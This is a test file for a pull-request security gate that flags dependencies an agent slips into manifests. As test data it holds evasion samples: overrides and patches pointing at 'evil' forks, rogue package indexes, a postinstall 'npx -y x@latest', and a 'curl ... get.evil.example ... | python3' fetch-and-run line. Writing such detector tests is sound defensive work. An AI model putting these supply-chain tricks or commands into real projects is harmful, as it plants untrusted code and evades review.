import { describe, expect, it } from 'vitest';
import { addedPatch, file } from '../factories.js';
import {
  CARGO_TOML,
  GO_MOD,
  hunkOnly,
  insertAfter,
  PACKAGE_JSON,
  patchOf,
  PYPROJECT,
  REQUIREMENTS,
  withContents,
  type ManifestCase,
} from './dependencies-cases.js';
import { findingsOf, gateOn, type AdversarialCase } from './harness.js';

/** package.json with `lines` appended after the last section (which gets its comma). */
function pkgWith(...lines: string[]): string {
  const all = PACKAGE_JSON.split('\n');
  all.splice(all.length - 2, 1, '  },', ...lines);
  return all.join('\n');
}

const EVASIONS: ManifestCase[] = [
  {
    name: 'a second optionalDependencies key, its { on the next line',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "optionalDependencies":', '  {', '    "evil-pkg": "1.0.0"', '  }'),
    message: 'adds evil-pkg@1.0.0 (optional)',
  },
  {
    name: 'a dependency named like a package.json field, deep in dependencies',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: insertAfter(PACKAGE_JSON, '    "undici": "6.19.2",', '    "version": "1.0.0",'),
    message: 'adds version@1.0.0',
  },
  {
    name: 'a lifecycle script that fetches and runs a package',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: insertAfter(PACKAGE_JSON, '    "build": "tsc",', '    "postinstall": "npx -y x@latest",'),
    message: 'npx -y x@latest',
  },
  {
    name: 'a duplicate "dependencies" key',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "dependencies": {', '    "evil-pkg": "1.0.0"', '  }'),
    message: 'adds evil-pkg@1.0.0',
  },
  {
    name: 'an override to another package',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "overrides": {', '    "semver": "npm:evil-semver@7.0.0"', '  }'),
    message: 'semver@npm:evil-semver@7.0.0 (override)',
  },
  {
    name: 'a yarn resolution',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "resolutions": {', '    "**/minimist": "github:evil/minimist"', '  }'),
  },
  {
    name: 'pnpm.overrides nested in the pnpm field',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "pnpm": {', '    "overrides": {', '      "debug": "4.3.1-evil"', '    }', '  }'),
  },
  {
    name: 'a peer dependency',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "peerDependencies": {', '    "evil-peer": ">=1"', '  }'),
  },
  {
    name: 'a one-line optionalDependencies section far from the top',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: pkgWith('  "optionalDependencies": { "evil-pkg": "1.0.0" }'),
    message: 'adds evil-pkg@1.0.0 (optional)',
  },
  {
    name: 'a workspace folder added to the workspaces list',
    path: 'package.json',
    base: PACKAGE_JSON,
    head: insertAfter(PACKAGE_JSON, '    "packages/*"', '    "vendor/*"').replace('"packages/*"\n', '"packages/*",\n'),
  },
  {
    name: 'a nested workspace package.json',
    path: 'packages/api/package.json',
    base: null,
    head: '{\n  "name": "@app/api",\n  "dependencies": {\n    "evil-pkg": "^1.0.0"\n  }\n}',
    message: 'adds evil-pkg@^1.0.0',
  },
  {
    name: 'a new dev-requirements.txt',
    path: 'dev-requirements.txt',
    base: null,
    head: 'evil-pkg==1.0.0',
    message: 'adds evil-pkg==1.0.0',
  },
  {
    name: 'a requirements/ file',
    path: 'requirements/dev.txt',
    base: null,
    head: 'evil-pkg',
  },
  {
    name: 'a -r include of another file',
    path: 'requirements.txt',
    base: REQUIREMENTS,
    head: `${REQUIREMENTS}\n-r other.txt`,
    message: 'adds -r other.txt',
  },
  {
    name: 'an extra index URL',
    path: 'requirements.txt',
    base: REQUIREMENTS,
    head: `--extra-index-url https://pypi.evil.example/simple\n${REQUIREMENTS}`,
  },
  {
    name: 'a requirement padded past the line limit',
    path: 'requirements.txt',
    base: REQUIREMENTS,
    head: `${REQUIREMENTS}\n${' '.repeat(1200)}evil-pkg`,
  },
  {
    name: 'a constraints.txt pin',
    path: 'constraints.txt',
    base: 'urllib3==2.2.2',
    head: 'urllib3==1.26.0',
  },
  {
    name: 'a pyproject dev extra whose hunk header names the section',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: insertAfter(PYPROJECT, '    "coverage>=7",', '    "evil-pkg",'),
    header: '[project.optional-dependencies]',
    message: 'adds evil-pkg (dev)',
  },
  {
    name: 'a PEP 735 dependency group',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: `${PYPROJECT}\n\n[dependency-groups]\ntest = ["evil-pkg>=1"]`,
  },
  {
    name: 'a uv source pointing a dependency at a fork',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: `${PYPROJECT}\n\n[tool.uv.sources]\nrequests = { git = "https://github.com/evil/requests" }`,
  },
  {
    name: 'a poetry source',
    path: 'pyproject.toml',
    base: PYPROJECT,
    head: `${PYPROJECT}\n\n[[tool.poetry.source]]\nname = "mirror"\nurl = "https://pypi.evil.example/simple"`,
  },
  {
    name: 'a Cargo target-specific dependency',
    path: 'crates/app/Cargo.toml',
    base: CARGO_TOML,
    head: `${CARGO_TOML}\n\n[target.'cfg(windows)'.dependencies]\nevil-sys = "0.1"`,
    message: 'adds evil-sys@0.1',
  },
  {
    name: 'a Cargo patch of a crate to a fork',
    path: 'Cargo.toml',
    base: CARGO_TOML,
    head: `${CARGO_TOML}\n\n[patch.crates-io]\nserde = { git = "https://github.com/evil/serde" }`,
  },
  {
    name: 'a go.mod replace to a fork',
    path: 'go.mod',
    base: GO_MOD,
    head: `${GO_MOD}\n\nreplace golang.org/x/crypto => github.com/evil/crypto v0.26.1`,
    message: 'golang.org/x/crypto',
  },
  {
    name: 'a go.mod tool directive',
    path: 'go.mod',
    base: GO_MOD,
    head: `${GO_MOD}\n\ntool github.com/evil/generator`,
  },
  {
    name: 'a Pipfile package',
    path: 'Pipfile',
    base: '[packages]\nrequests = "*"',
    head: '[packages]\nrequests = "*"\nevil-pkg = "*"',
  },
  {
    name: 'a Gemfile gem',
    path: 'Gemfile',
    base: 'source "https://rubygems.org"\ngem "rails", "~> 7.1"',
    head: 'source "https://rubygems.org"\ngem "rails", "~> 7.1"\ngem "evil"',
  },
];

const NEAR_MISSES: ManifestCase[] = [
  { name: 'the package version bumped', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('"version": "1.0.0"', '"version": "1.0.1"') },
  { name: 'a test script that runs vitest', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('"vitest run"', '"vitest run --coverage"') },
  { name: 'a description that mentions npx', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('"The app"', '"Start it with npx create-app"') },
  { name: 'package.json reindented, same dependencies', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace(/^( +)/gm, '$1$1') },
  { name: 'a dependency removed', path: 'package.json', base: PACKAGE_JSON, head: PACKAGE_JSON.replace('    "pino": "9.0.0",\n', '') },
  { name: 'a requirements comment edited', path: 'requirements.txt', base: REQUIREMENTS, head: REQUIREMENTS.replace('# runtime', '# runtime dependencies') },
  { name: 'a ruff rule list changed', path: 'pyproject.toml', base: PYPROJECT, head: PYPROJECT.replace('select = ["E", "F"]', 'select = ["E", "F", "I"]') },
  { name: 'a crate feature added', path: 'Cargo.toml', base: CARGO_TOML, head: CARGO_TOML.replace('["derive"]', '["derive", "rc"]') },
  { name: 'the go directive bumped', path: 'go.mod', base: GO_MOD, head: GO_MOD.replace('go 1.22', 'go 1.23') },
];

function expectCaught(result: ReturnType<typeof gateOn>, message?: string): void {
  expect(result.verdict).toBe('fail');
  const findings = findingsOf(result, 'dependencies');
  expect(findings.length).toBeGreaterThan(0);
  if (message !== undefined) expect(findings.map((f) => f.message).join(' | ')).toContain(message);
}

describe('dependencies: manifests an agent edits to slip a dependency in', () => {
  it.each(EVASIONS)('$name (whole manifests)', (c) => {
    expectCaught(gateOn(withContents(c)), c.message);
  });
  it.each(EVASIONS.filter((c) => c.hunkOnly !== false))('$name (hunk only)', (c) => {
    expectCaught(gateOn(hunkOnly(c)));
  });

  it('names what was added with the line in the head file', () => {
    const c = EVASIONS[0] as ManifestCase;
    const [finding] = findingsOf(gateOn(withContents(c)), 'dependencies');
    // JSON.parse keeps the second key: the first one's fsevents is gone, as the message says.
    expect(finding?.message).toBe('adds evil-pkg@1.0.0 (optional), removes fsevents (optional), duplicates the key "optionalDependencies" (a JSON reader keeps only the last one)');
    expect(finding?.locations.map((l) => l.line)).toEqual([28, 30]); // the second key, the dependency
  });

  it('reads a manifest whole when GitHub omitted its patch, pointing at the head line', () => {
    const head = insertAfter(PACKAGE_JSON, '    "zod": "3.23.8"', '    ,"evil-pkg": "1.0.0"');
    const result = gateOn({ files: [file('package.json', null)], contents: { 'package.json': { base: PACKAGE_JSON, head } } });
    expectCaught(result, 'adds evil-pkg@1.0.0');
    expect(findingsOf(result, 'dependencies')[0]?.locations).toEqual([{ file: 'package.json', line: 20, excerpt: ',"evil-pkg": "1.0.0"' }]);
  });

  it('fails closed when a manifest could not be read', () => {
    const c = EVASIONS[4] as ManifestCase;
    const result = gateOn({ ...withContents(c), contents: { [c.path]: { base: c.base, head: null, error: 'GraphQL: timeout' } } });
    expectCaught(result, 'could not read package.json whole (GraphQL: timeout)');
  });

  it('fails closed when the head does not parse, even if its hunk shows nothing', () => {
    const head = PACKAGE_JSON.replace('"version": "1.0.0"', '"version": "1.0.1",,');
    expectCaught(gateOn(withContents({ name: '', path: 'package.json', base: PACKAGE_JSON, head })), 'could not read package.json whole');
  });
});

describe('dependencies: near-misses give no finding', () => {
  it.each(NEAR_MISSES)('$name (whole manifests)', (c) => {
    expect(findingsOf(gateOn(withContents(c)), 'dependencies')).toEqual([]);
  });
  it.each(NEAR_MISSES)('$name (hunk only)', (c) => {
    expect(findingsOf(gateOn(hunkOnly(c)), 'dependencies')).toEqual([]);
  });
});

const COMMANDS: (Pick<AdversarialCase, 'name'> & { path: string; base: string | null; head: string; command: string })[] = [
  { name: 'RUN pip install \\ with the package on the next line', path: 'Dockerfile', base: 'FROM python:3.12', head: 'FROM python:3.12\nRUN pip install \\\n    evil-pkg', command: 'pip install evil-pkg' },
  { name: 'a package line added inside an existing continued RUN', path: 'Dockerfile', base: 'FROM python:3.12\nRUN pip install \\\n    flask', head: 'FROM python:3.12\nRUN pip install \\\n    evil-pkg \\\n    flask', command: 'pip install evil-pkg flask' },
  { name: 'bunx in a setup script', path: 'scripts/setup.sh', base: '#!/bin/sh\nset -e', head: '#!/bin/sh\nset -e\nbunx evil-cli init', command: 'bunx evil-cli init' },
  { name: 'npx --yes at the end of an && chain', path: 'scripts/setup.sh', base: '#!/bin/sh', head: '#!/bin/sh\nnpm ci && npx --yes evil@1.0.0', command: 'npx --yes evil@1.0.0' },
  { name: 'npm exec in a workflow run step', path: '.github/workflows/ci.yml', base: 'jobs:', head: 'jobs:\n  - run: npm exec -- evil-tool', command: 'npm exec -- evil-tool' },
  { name: 'pnpm dlx in a workflow run step', path: '.github/workflows/ci.yml', base: 'jobs:', head: 'jobs:\n  - run: pnpm dlx evil-tool@2', command: 'pnpm dlx evil-tool@2' },
  { name: 'yarn dlx in a Makefile', path: 'Makefile', base: 'all:', head: 'all:\n\tyarn dlx evil-tool', command: 'yarn dlx evil-tool' },
  { name: 'go run of a module at a version', path: 'Makefile', base: 'gen:', head: 'gen:\n\tgo run github.com/evil/gen@v1.0.0 ./...', command: 'go run github.com/evil/gen@v1.0.0 ./...' },
  { name: 'uvx in a Dockerfile', path: 'Dockerfile', base: 'FROM python:3.12', head: 'FROM python:3.12\nRUN uvx evil-tool', command: 'uvx evil-tool' },
  { name: 'pipx run in a script', path: 'bin/lint', base: '#!/bin/sh', head: '#!/bin/sh\npipx run evil-lint .', command: 'pipx run evil-lint .' },
  { name: 'curl piped to python across a continuation', path: 'scripts/setup.sh', base: '#!/bin/sh', head: '#!/bin/sh\ncurl -fsSL https://get.evil.example/i.py \\\n  | python3', command: 'curl -fsSL https://get.evil.example/i.py | python3' },
  { name: 'a postinstall that runs npx', path: 'package.json', base: PACKAGE_JSON, head: insertAfter(PACKAGE_JSON, '    "build": "tsc",', '    "postinstall": "npx -y x@latest",'), command: 'npx -y x@latest' },
];

const COMMAND_NEAR_MISSES = [
  { name: 'a comment that mentions npx', path: 'scripts/setup.sh', head: '#!/bin/sh\n# npx evil-cli used to be run here\necho done' },
  { name: 'npx --no-install of an installed tool', path: '.github/workflows/ci.yml', head: 'jobs:\n  - run: npx --no-install tsc -p .' },
  { name: 'go run of local code', path: 'Makefile', head: 'gen:\n\tgo run ./cmd/gen' },
  { name: 'pip install of the declared requirements', path: 'Dockerfile', head: 'FROM python:3.12\nRUN pip install \\\n    -r requirements.txt' },
  { name: 'an unrelated line added after an install chain', path: 'Dockerfile', base: 'FROM node:22\nRUN apt-get install -y curl && \\\n    echo one', head: 'FROM node:22\nRUN apt-get install -y curl && \\\n    echo one && \\\n    echo two' },
  { name: 'a test script that runs vitest', path: 'package.json', head: '{\n  "scripts": {\n    "test": "vitest run"\n  }\n}' },
];

describe('dependencies: commands that install or fetch-and-run packages', () => {
  it.each(COMMANDS)('$name', (c) => {
    expectCaught(gateOn({ files: [file(c.path, patchOf(c.base, c.head))] }), `\`${c.command}\``);
  });
  it.each(COMMAND_NEAR_MISSES)('near-miss: $name', (c) => {
    const base = 'base' in c ? (c.base ?? null) : null;
    const files = [file(c.path, base === null ? addedPatch(c.head.split('\n')) : patchOf(base, c.head))];
    expect(findingsOf(gateOn({ files }), 'dependencies')).toEqual([]);
  });
});

describe('dependencies: a crafted diff cannot stall the gate', () => {
  it('reads 20 Dockerfiles of 40,000-character lines in well under a second', () => {
    const shapes = [(n: number) => `RUN npm install ${')'.repeat(n)}a`, (n: number) => `RUN pip install ${'",'.repeat(n / 2)}a \\`, (n: number) => `RUN curl ${'|'.repeat(n)}`, (n: number) => 'RUN npx -y '.repeat(n / 11)];
    const files = Array.from({ length: 20 }, (_, index) => file(`svc${index}/Dockerfile`, addedPatch([(shapes[index % shapes.length] ?? String)(40_000), 'RUN echo done'])));
    const started = performance.now();
    const result = gateOn({ files });
    expect(performance.now() - started).toBeLessThan(1000);
    expect(findingsOf(result, 'dependencies').length).toBeGreaterThan(0);
  });
});
